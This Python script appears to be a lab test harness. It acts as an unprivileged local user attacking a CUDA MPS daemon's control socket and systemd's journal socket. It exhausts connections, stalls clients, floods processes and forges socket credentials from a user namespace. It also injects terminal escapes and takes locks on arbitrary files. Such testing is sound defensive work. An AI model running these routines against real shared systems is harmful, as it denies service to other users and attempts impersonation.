#!/usr/bin/python3 -IS
"""What a local user without rights does at an instance's front door. It runs on a lab host, as that user.

`attacker.py DEED [WORD …]`. Some deeds tell systemd (sd_notify(3)) that they are in place, and stay until they are
ended; the others print what they met.
"""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import struct
import sys
import time

DIRECTORY = os.environ.get("CUDA_MPS_PIPE_DIRECTORY", "")
HELLO, CLIENT = b"OUTBCRED\0", b"\2\0\0\0"
_NEW_USER, _NEW_PID = 0x10000000, 0x20000000


def connected() -> socket.socket:
    """A connection that has its greeting."""
    made = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    made.settimeout(30)
    made.connect(f"{DIRECTORY}/control")
    return made


def say(connection: socket.socket, data: bytes, pid: int = 0, uid: int = -1) -> None:
    """With credentials: this process's own, or others."""
    who = struct.pack("=iII", pid or os.getpid(), os.getuid() if uid < 0 else uid, os.getgid())
    connection.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, who)])


def what_comes(connection: socket.socket) -> str:
    """The messages until the end, in hexadecimal, then `closed` or `open`."""
    found: list[str] = []
    try:
        while True:
            data = connection.recv(64)
            if not data:
                return " ".join([*found, "closed"])
            found.append(data.hex())
    except ConnectionError:
        return " ".join([*found, "closed"])
    except socket.timeout:
        return " ".join([*found, "open"])


def in_place() -> None:
    """Tell systemd, and stay."""
    path = os.environ.get("NOTIFY_SOCKET")
    if path:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as told:
            told.sendto(b"READY=1", path.replace("@", "\0", 1) if path.startswith("@") else path)
    while True:
        signal.pause()


def silent(count: str) -> None:
    """Connections that say nothing, as many as the kernel takes."""
    kept = []
    for _ in range(int(count)):
        kept.append(socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET))
        kept[-1].connect(f"{DIRECTORY}/control")
    in_place()


def half(count: str) -> None:
    """Connections with the first of both messages."""
    kept = [connected() for _ in range(int(count))]
    for one in kept:
        try:
            say(one, HELLO)
        except ConnectionError:  # one too many
            continue
    in_place()


def waiting(count: str) -> None:
    """Connections that say all that a client says, and stay."""
    kept = []
    for _ in range(int(count)):
        try:
            kept.append(connected())
            say(kept[-1], HELLO)
            say(kept[-1], CLIENT)
        except OSError:  # one too many, or the backlog is full
            time.sleep(0.01)
    in_place()


def stalled(count: str) -> None:
    """Processes that say both messages, and nothing after the daemon's answer."""
    for _ in range(int(count)):
        read, write = os.pipe()
        if os.fork() == 0:
            one = connected()
            say(one, HELLO)
            say(one, CLIENT)
            os.write(write, b"!")
            while True:
                signal.pause()
        os.close(write)
        os.read(read, 1)
        os.close(read)
    in_place()


def stalling(count: str) -> None:
    """As `stalled`, and each comes anew, again and again, before it is turned away."""
    for _ in range(int(count)):
        if os.fork():
            continue
        kept: list[socket.socket] = []
        while True:
            try:
                kept.append(connected())
                say(kept[-1], HELLO)
                say(kept[-1], CLIENT)
            except OSError:
                time.sleep(0.05)
            if len(kept) > 100:
                kept.pop(0).close()
    in_place()


def streams(count: str, seconds: str) -> None:
    """Connections to the journal's socket for the output of services, which takes 4,096 of all users."""
    end_s = time.monotonic() + float(seconds)
    for _ in range(8):
        if os.fork():
            continue
        kept: list[socket.socket] = []
        while time.monotonic() < end_s:
            if len(kept) >= int(count) // 8:
                time.sleep(0.1)
                continue
            try:
                kept.append(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
                kept[-1].settimeout(2)
                kept[-1].connect("/run/systemd/journal/stdout")
                kept[-1].sendall(b"mps-control@0\n\n6\n0\n0\n0\n0\n")
            except OSError:
                time.sleep(0.1)
        os._exit(0)
    in_place()


def crowd(count: str, program: str) -> None:
    """Processes of a program, each with the daemon's directory in its environment and 120 kB of arguments."""
    environment = {"CUDA_MPS_PIPE_DIRECTORY": "/run/mps-fleet/0/pipe", "CUDA_VISIBLE_DEVICES": "0"}
    for _ in range(int(count)):
        if os.fork() == 0:
            os.execve(program, [os.path.basename(program), "600", *["0"] * 60_000], environment)
    in_place()


def hammer() -> None:
    """Connect, speak and go, without a pause."""
    if os.fork() == 0:
        while True:
            try:
                with connected() as one:
                    say(one, HELLO)
            except OSError:
                continue
    in_place()


def words(*messages: str) -> None:
    """Messages in hexadecimal, one after the other; what comes back."""
    with connected() as one:
        try:
            for message in messages:
                say(one, bytes.fromhex(message))
        except ConnectionError:
            pass
        print(what_comes(one))


def wrong(count: str) -> None:
    """Many connections, each with a wrong word."""
    for _ in range(int(count)):
        with connected() as one:
            try:
                say(one, b"\x1b[2Jnothing that a client says")
            except ConnectionError:
                continue
            what_comes(one)


def descriptor(path: str) -> None:
    """An open file with the first message."""
    opened = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    with connected() as one:
        ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("=i", opened))]
        try:
            one.sendmsg([HELLO], ancillary)
        except PermissionError:
            print("the kernel does not send it")
            return
        print(what_comes(one))


def claim(uid: str) -> None:
    """In a user and pid namespace of its own: the credentials of another of its processes, or of another user."""
    libc = ctypes.CDLL(None, use_errno=True)
    maps = {"setgroups": "deny", "uid_map": f"0 {os.getuid()} 1", "gid_map": f"0 {os.getgid()} 1"}
    if libc.unshare(_NEW_USER | _NEW_PID):
        print("no namespaces:", os.strerror(ctypes.get_errno()))
        return
    for name, value in maps.items():
        with open(f"/proc/self/{name}", "w") as written:
            written.write(value)
    if os.fork():
        os.wait()
        return
    other = os.fork()
    if not other:
        time.sleep(60)
        os._exit(0)
    with connected() as one:
        try:
            say(one, HELLO, pid=other, uid=int(uid))
            say(one, CLIENT, pid=other, uid=int(uid))
            print(what_comes(one))
        except ConnectionError:
            print(what_comes(one))
        except OSError as error:
            print("the kernel does not send it:", error.strerror)
    os.kill(other, signal.SIGKILL)
    sys.stdout.flush()


def become(title: str, program: str, *arguments: str) -> None:
    """Another program, under a title of its own choice."""
    os.execv(program, [title.encode().decode("unicode_escape"), *arguments])


def lock(*paths: str) -> None:
    """flock(2) and fcntl(2) on everything that can be opened."""
    import fcntl

    kept = []
    for path in paths:
        for flags in (os.O_RDWR, os.O_RDONLY):
            try:
                opened = os.open(path, flags | os.O_NONBLOCK)
            except OSError:
                continue
            kept.append(opened)
            try:
                fcntl.flock(opened, fcntl.LOCK_EX | fcntl.LOCK_NB)
                fcntl.lockf(opened, fcntl.LOCK_SH | fcntl.LOCK_NB)
            except OSError:
                continue
    in_place()


DEEDS = (
    silent,
    half,
    waiting,
    stalled,
    stalling,
    streams,
    crowd,
    hammer,
    words,
    wrong,
    descriptor,
    claim,
    become,
    lock,
)

if __name__ == "__main__":
    {one.__name__: one for one in DEEDS}[sys.argv[1]](*sys.argv[2:])
